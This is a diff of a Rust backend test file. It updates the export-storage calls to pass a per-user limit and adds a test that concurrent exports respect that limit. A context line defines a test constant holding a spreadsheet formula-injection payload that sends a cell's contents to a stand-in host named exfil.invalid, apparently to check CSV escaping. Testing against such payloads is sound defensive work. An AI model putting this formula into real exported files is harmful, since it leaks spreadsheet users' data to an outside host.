@@ -49,6 +49,7 @@ backend_tests!(
     stalled_export_fails_as_interrupted,
     bangla_reader_gets_bangla_labels,
     fourth_running_export_rejected,
+    simultaneous_exports_keep_limit,
 );
 
 const FULL_NAME: &str = "=HYPERLINK(\"http://exfil.invalid/?d=\"&A2,\"open file\")";
@@ -695,7 +696,12 @@ async fn stalled_export_fails_as_interrupted(backend: Backend) {
         now: started,
         expires_at: started + time::Duration::hours(24),
     };
-    app.state.store.create_export(&stalled).await.expect("storing the export failed");
+    app.state
+        .store
+        .create_export(&stalled, 3)
+        .await
+        .expect("storing the export failed")
+        .expect("under the limit");
     let (status, view) = send(fixture.rahima.get(app.api(&format!("/exports/{id}")))).await;
     assert_eq!(status, StatusCode::OK);
     assert_eq!(view["state"], "running");
@@ -712,7 +718,12 @@ async fn stalled_export_fails_as_interrupted(backend: Backend) {
 
     // A generation that reported progress within the last 15 minutes is left alone.
     let fresh = sathi_store::NewExport { id: sathi_store::ExportId(uuid::Uuid::now_v7()), now, ..stalled };
-    app.state.store.create_export(&fresh).await.expect("storing the export failed");
+    app.state
+        .store
+        .create_export(&fresh, 3)
+        .await
+        .expect("storing the export failed")
+        .expect("under the limit");
     let (_, interrupted) =
         sathi_server::exports::cleanup_once(&app.state, now).await.expect("the cleanup failed");
     assert_eq!(interrupted, 0);
@@ -768,7 +779,12 @@ async fn fourth_running_export_rejected(backend: Backend) {
             now,
             expires_at: now + time::Duration::hours(24),
         };
-        app.state.store.create_export(&running).await.expect("storing the export failed");
+        app.state
+            .store
+            .create_export(&running, 3)
+            .await
+            .expect("storing the export failed")
+            .expect("under the limit");
     }
 
     let (status, error) =
@@ -780,4 +796,37 @@ async fn fourth_running_export_rejected(backend: Backend) {
 
     let view = export_ready(app, &fixture.karim, json!({"format": "csv"})).await;
     assert_eq!(view["state"], "ready");
+}
+
+/// Six exports stored at the same moment for one user, with room for three: exactly three are
+/// stored, because each counts the others.
+async fn simultaneous_exports_keep_limit(backend: Backend) {
+    let fixture = fixture(backend).await;
+    let app = &fixture.app;
+    let user = app.state.store.user_by_username("cw.rahima").await.unwrap().unwrap();
+    let now = time::OffsetDateTime::now_utc();
+    let mut tasks = Vec::new();
+    for _ in 0..6 {
+        let store = app.state.store.clone();
+        let export = sathi_store::NewExport {
+            id: sathi_store::ExportId(uuid::Uuid::now_v7()),
+            owner_id: user.id,
+            format: "csv".to_owned(),
+            file_name: "sathi-cases.csv".to_owned(),
+            content_type: "text/csv; charset=utf-8".to_owned(),
+            password_protected: false,
+            now,
+            expires_at: now + time::Duration::hours(24),
+        };
+        tasks.push(tokio::spawn(async move { store.create_export(&export, 3).await }));
+    }
+    let mut stored = 0;
+    for task in tasks {
+        if task.await.expect("the task ran").expect("the store answered").is_some() {
+            stored += 1;
+        }
+    }
+    assert_eq!(stored, 3);
+    let listed = app.state.store.list_exports(user.id, now).await.expect("the list");
+    assert_eq!(listed.len(), 3);
 }
